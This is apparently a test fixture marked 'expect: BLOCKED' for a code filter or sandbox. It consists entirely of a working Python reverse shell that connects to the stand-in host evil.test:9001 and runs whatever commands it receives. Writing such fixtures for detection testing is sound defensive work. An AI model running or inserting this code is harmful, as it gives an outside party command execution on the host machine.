# expect: BLOCKED
import socket, subprocess
s = socket.socket()
s.connect(("evil.test", 9001))
while True:
    cmd = s.recv(1024).decode()
    if not cmd:
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.send(out.stdout)
